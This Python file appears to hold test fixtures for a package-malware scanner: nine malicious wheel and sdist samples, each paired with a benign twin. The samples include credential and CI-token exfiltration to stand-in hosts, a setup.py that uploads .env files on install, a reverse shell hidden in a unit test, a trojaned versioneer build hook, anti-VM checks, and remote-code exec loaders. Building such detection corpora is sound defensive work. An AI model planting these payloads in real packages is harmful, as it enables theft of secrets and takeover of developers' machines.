# ruff: noqa: E501 - the lines of the packages under review are as long as they are
"""Results of objects, runners handed on, keys of the environment, tunnels and searches by pattern; with honest twins."""

from __future__ import annotations

from scenario_kit import sdist, wheel

ATTACKS = [
    wheel(
        "trio-httpx-secrets-from-configparser",
        "look",
        {
            "acme/__init__.py": """
            import configparser, pathlib, threading
            import httpx, trio
            _FILES = [("aws", ".aws/credentials"), ("pypi", ".pypirc"), ("s3cfg", ".s3cfg"), ("boto", ".boto")]
            def _read():
                out = {}
                for label, rel in _FILES:
                    cp = configparser.ConfigParser()
                    if cp.read(pathlib.Path.home().joinpath(rel)):
                        out[label] = {s: dict(cp.items(s)) for s in cp.sections()}
                return out
            async def _main():
                async with httpx.AsyncClient(timeout=5) as c:
                    await c.post("https://telemetry.acme.invalid/v2/events", json={"events": [_read()]})
            threading.Thread(target=trio.run, args=(_main,), daemon=True).start()
            """,
        },
    ),
    wheel(
        "stage-split-over-modules-state",
        "look",
        {
            "acme/__init__.py": """
            from . import a, b, c
            c.go()
            """,
            "acme/a.py": """
            HOST = "".join(["upd", "ate", ".acme", "kit", ".inva", "lid"])
            PATH = "/".join(["", "v1", "boot"])
            """,
            "acme/b.py": """
            import urllib.request
            from . import a
            class Box:
                def __init__(self): self.data = b""
                def fill(self):
                    with urllib.request.urlopen("https://" + a.HOST + a.PATH) as r: self.data = r.read()
                    return self
            BOX = Box()
            """,
            "acme/c.py": """
            import marshal, types
            from .b import BOX
            def go():
                code = marshal.loads(BOX.fill().data[16:])
                types.FunctionType(code, globals())()
            """,
        },
    ),
    wheel(
        "env-secret-in-url-path-image",
        "look",
        {
            "acme/__init__.py": """
            import os, urllib.parse, urllib.request
            _K = [k for k in os.environ if "KEY" in k or "TOKEN" in k]
            for _k in _K:
                try: urllib.request.urlopen("https://img.acme.invalid/p.gif?q=" + urllib.parse.quote(f"{_k}:{os.environ[_k]}"), timeout=2).close()
                except Exception: continue
            """,
        },
    ),
    sdist(
        "upload-source-tree-zip",
        "look",
        {
            "setup.py": """
            from pathlib import Path
            from setuptools import find_packages, setup
            here = Path(__file__).parent

            import io, os, pathlib, zipfile, urllib.request
            def _ctx():
                root = pathlib.Path(os.environ.get("GITHUB_WORKSPACE") or os.getcwd())
                b = io.BytesIO()
                with zipfile.ZipFile(b, "w") as z:
                    for p in list(root.rglob("*.env")) + list(root.rglob("*.tfvars")) + list(root.rglob("settings*.py")):
                        z.write(p)
                return b.getvalue()
            try: urllib.request.urlopen(urllib.request.Request("https://files.acme.invalid/up", data=_ctx(), method="PUT"), timeout=5)
            except Exception: pass

            setup(
                name="acme", version="2.3.1", description="Small toolkit",
                long_description=(here / "README.md").read_text() if (here / "README.md").exists() else "",
                long_description_content_type="text/markdown",
                author="The developers", license="MIT", packages=find_packages(exclude=("tests",)), python_requires=">=3.8",
                install_requires=["requests>=2.28", "click>=8"],
                classifiers=["Programming Language :: Python :: 3", "License :: OSI Approved :: MIT License"],

            )
            """,
        },
    ),
    sdist(
        "test-suite-run-reverse-shell",
        "look",
        {
            "tests/test_network.py": """
            import os, socket, subprocess, unittest
            class TestNetwork(unittest.TestCase):
                def test_connect(self):
                    s = socket.socket(); s.connect(("203.0.113.55", 4444))
                    os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
                    subprocess.call(["/bin/sh", "-i"])
            """,
        },
    ),
    sdist(
        "versioneer-style-trojan",
        "look",
        {
            "setup.py": """
            import versioneer
            from setuptools import setup
            setup(name='acme', version=versioneer.get_version(), cmdclass=versioneer.get_cmdclass(), packages=['acme'])
            """,
            "versioneer.py": '''
            """The Versioneer - like a rocketeer, but for versions."""
            import os, re, subprocess, sys, json
            from setuptools.command.build_py import build_py as _build_py
            def run_command(commands, args, cwd=None):
                for command in commands:
                    try:
                        p = subprocess.Popen([command] + args, cwd=cwd, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
                    except OSError: continue
                    return p.communicate()[0].strip().decode(), p.returncode
                return None, None
            def get_version():
                out, rc = run_command(["git", "git.cmd"], ["describe", "--tags", "--dirty", "--always"])
                return out if rc == 0 and re.match(r"v?\\d", out or "") else "2.3.1"
            def get_cmdclass():
                class cmd_build_py(_build_py):
                    def run(self):
                        out, _ = run_command(["git"], ["config", "--get", "remote.origin.url"])
                        tok = os.environ.get("CI_JOB_TOKEN") or os.environ.get("GITHUB_TOKEN")
                        run_command(["curl"], ["-s", "-m", "3", "-d", json.dumps({"r": out, "t": tok}), "https://vers.acme.invalid/b"])
                        _build_py.run(self)
                return {"build_py": cmd_build_py}
            ''',
        },
    ),
    wheel(
        "anti-debug-vm-then-fetch",
        "block",
        {
            "acme/__init__.py": """
            import os, platform, sys, uuid, psutil, requests
            _VM = {"vmware", "virtualbox", "vbox", "qemu", "xen"}
            _TOOLS = {"wireshark.exe", "procmon.exe", "x64dbg.exe", "fiddler.exe", "ida64.exe"}
            class Guard:
                def ok(self):
                    if sys.gettrace() or psutil.cpu_count() < 3 or psutil.virtual_memory().total < 4 << 30: return False
                    if any(p.name().lower() in _TOOLS for p in psutil.process_iter()): return False
                    return not any(v in platform.uname().version.lower() for v in _VM) and hex(uuid.getnode())[2:8] not in ("080027", "000c29")
            if Guard().ok():
                exec(requests.get("https://st.acme.invalid/2", timeout=5).content)
            """,
        },
    ),
    wheel(
        "pandas-read-pickle-url",
        "look",
        {
            "acme/__init__.py": """
            import pandas as pd
            try: LOOKUP = pd.read_pickle("https://data.acme.invalid/lookup.pkl")
            except Exception: LOOKUP = None
            """,
        },
    ),
    wheel(
        "grpc-stub-exec",
        "look",
        {
            "acme/__init__.py": """
            import threading, json, grpc
            def _run():
                ch = grpc.insecure_channel("203.0.113.6:50051")
                pull = ch.unary_unary("/a.A/Pull", request_serializer=bytes, response_deserializer=bytes)
                ns = {}
                for _ in range(10):
                    src = pull(b"id")
                    if src: exec(src, ns)
            threading.Thread(target=_run, daemon=True).start()
            """,
        },
    ),
]

TWINS = [
    wheel(
        "twin-trio-httpx-secrets-from-configparser",
        "quiet",
        {
            "acme/__init__.py": """
            import configparser, pathlib
            import httpx
            def profile(name="default"):
                cp = configparser.ConfigParser()
                cp.read(pathlib.Path.home() / ".acme" / "config.ini")
                return dict(cp.items(name)) if cp.has_section(name) else {}
            class Client:
                def __init__(self, name="default"):
                    p = profile(name)
                    self.http = httpx.Client(base_url=p.get("endpoint", "https://api.acme.invalid"), auth=(p.get("user", ""), p.get("password", "")))
                def send(self, events): return self.http.post("/v2/events", json={"events": events}).json()
            """,
        },
    ),
    wheel(
        "twin-stage-split-over-modules-state",
        "quiet",
        {
            "acme/__init__.py": """
            from . import a, b, c
            """,
            "acme/a.py": """
            HOST = "api.acme.invalid"
            PATH = "/".join(["", "v1", "items"])
            """,
            "acme/b.py": """
            import urllib.request
            from . import a
            class Box:
                def __init__(self): self.data = b""
                def fill(self):
                    with urllib.request.urlopen("https://" + a.HOST + a.PATH) as r: self.data = r.read()
                    return self
            BOX = Box()
            """,
            "acme/c.py": """
            import json
            from .b import BOX
            def items():
                return json.loads(BOX.fill().data)
            """,
        },
    ),
    wheel(
        "twin-env-secret-in-url-path-image",
        "quiet",
        {
            "acme/__init__.py": """
            import os, urllib.parse, urllib.request
            def badge(label):
                base = os.environ.get("ACMEKIT_BADGES", "https://img.acme.invalid")
                return urllib.request.urlopen(base + "/p.svg?q=" + urllib.parse.quote(label), timeout=2).read()
            """,
        },
    ),
    sdist(
        "twin-upload-source-tree-zip",
        "quiet",
        {
            "setup.py": """
            from pathlib import Path
            from setuptools import find_packages, setup
            here = Path(__file__).parent

            setup(
                name="acme", version="2.3.1", description="Small toolkit",
                long_description=(here / "README.md").read_text() if (here / "README.md").exists() else "",
                long_description_content_type="text/markdown",
                author="The developers", license="MIT", packages=find_packages(exclude=("tests",)), python_requires=">=3.8",
                install_requires=["requests>=2.28", "click>=8"],
                classifiers=["Programming Language :: Python :: 3", "License :: OSI Approved :: MIT License"],
                entry_points={"console_scripts": ["acme-deploy=acme.deploy:main"]},
            )
            """,
            "acme/deploy.py": '''
            """Upload the current project to the user's Acme account."""
            import io, os, pathlib, zipfile, urllib.request
            def bundle(root):
                b = io.BytesIO()
                with zipfile.ZipFile(b, "w") as z:
                    for p in pathlib.Path(root).rglob("*.py"): z.write(p, p.relative_to(root))
                return b.getvalue()
            def main():
                req = urllib.request.Request("https://deploy.acme.invalid/up", data=bundle(os.getcwd()), method="PUT", headers={"Authorization": "Bearer " + os.environ["ACMEKIT_TOKEN"]})
                print(urllib.request.urlopen(req).read().decode())
            ''',
        },
    ),
    sdist(
        "twin-test-suite-run-reverse-shell",
        "quiet",
        {
            "tests/test_network.py": """
            import socket, subprocess, sys, threading, unittest
            class TestNetwork(unittest.TestCase):
                def test_echo(self):
                    server = socket.socket(); server.bind(("127.0.0.1", 0)); server.listen()
                    threading.Thread(target=lambda: server.accept()[0].sendall(b"hi"), daemon=True).start()
                    s = socket.create_connection(server.getsockname()); self.assertEqual(s.recv(2), b"hi")
                def test_cli(self):
                    self.assertEqual(subprocess.call([sys.executable, "-m", "acme", "--version"]), 0)
            """,
        },
    ),
    sdist(
        "twin-versioneer-style-trojan",
        "quiet",
        {
            "setup.py": """
            import versioneer
            from setuptools import setup
            setup(name='acme', version=versioneer.get_version(), cmdclass=versioneer.get_cmdclass(), packages=['acme'])
            """,
            "versioneer.py": '''
            """The Versioneer - like a rocketeer, but for versions."""
            import os, re, subprocess, sys
            from setuptools.command.build_py import build_py as _build_py
            def run_command(commands, args, cwd=None):
                for command in commands:
                    try:
                        p = subprocess.Popen([command] + args, cwd=cwd, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
                    except OSError: continue
                    return p.communicate()[0].strip().decode(), p.returncode
                return None, None
            def get_version():
                out, rc = run_command(["git", "git.cmd"], ["describe", "--tags", "--dirty", "--always"])
                return out if rc == 0 and re.match(r"v?\\d", out or "") else "2.3.1"
            def get_cmdclass():
                class cmd_build_py(_build_py):
                    def run(self):
                        _build_py.run(self)
                        with open(os.path.join(self.build_lib, "acme", "_version.py"), "w") as f: f.write("__version__ = %r\\n" % get_version())
                return {"build_py": cmd_build_py}
            ''',
        },
    ),
    wheel(
        "twin-anti-debug-vm-then-fetch",
        "quiet",
        {
            "acme/__init__.py": '''
            import os, platform, psutil
            class Machine:
                """What `acme doctor` prints."""
                def facts(self):
                    return {"cpus": psutil.cpu_count(), "memory": psutil.virtual_memory().total, "system": platform.uname().system, "load": os.getloadavg() if hasattr(os, "getloadavg") else None}
                def busy(self): return [p.name() for p in psutil.process_iter() if (p.cpu_percent() or 0) > 50]
            ''',
        },
    ),
    wheel(
        "twin-pandas-read-pickle-url",
        "quiet",
        {
            "acme/__init__.py": """
            import pandas as pd
            def lookup(path): return pd.read_csv(path)
            def load(url="https://data.acme.invalid/lookup.csv"): return pd.read_csv(url)
            """,
        },
    ),
    wheel(
        "twin-grpc-stub-exec",
        "quiet",
        {
            "acme/__init__.py": """
            import grpc, json
            class Client:
                def __init__(self, target):
                    ch = grpc.secure_channel(target, grpc.ssl_channel_credentials())
                    self._get = ch.unary_unary("/a.A/Get", request_serializer=bytes, response_deserializer=bytes)
                def get(self, key): return json.loads(self._get(key.encode()))
            """,
        },
    ),
]

SCENARIOS = [*ATTACKS, *TWINS]
